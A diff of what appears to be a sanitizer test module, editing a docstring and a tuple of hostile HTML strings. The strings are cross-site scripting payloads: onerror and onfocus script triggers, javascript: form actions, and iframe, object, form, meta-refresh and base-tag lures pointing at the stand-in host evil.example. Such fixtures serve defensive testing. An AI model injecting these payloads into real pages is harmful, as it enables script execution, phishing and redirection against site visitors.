@@ -1,4 +1,4 @@
-"""HTML as strangers write it: what they try to load, run, hide and cover, each with a mark that must not get through."""
+"""HTML as strangers write it: what they try to load, run, hide and cover."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ HOSTILE: Final = (
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<iframe src='http://evil.example/'></iframe><frameset><frame src='http://evil.example/'></frameset>",
     "<object data='http://evil.example/x.swf'></object><embed src='http://evil.example/x.swf'><applet code=x></applet>",
-    "<form action='http://evil.example/'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
+    "<form action='http://evil.example/'><input name=p><button formaction='javascript:alert(1)'>x</button></form>",
     "<textarea autofocus onfocus=alert(1)></textarea><select><option>x</select>",
     "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
     "<base href='http://evil.example/'><a href='x'>relative</a>",
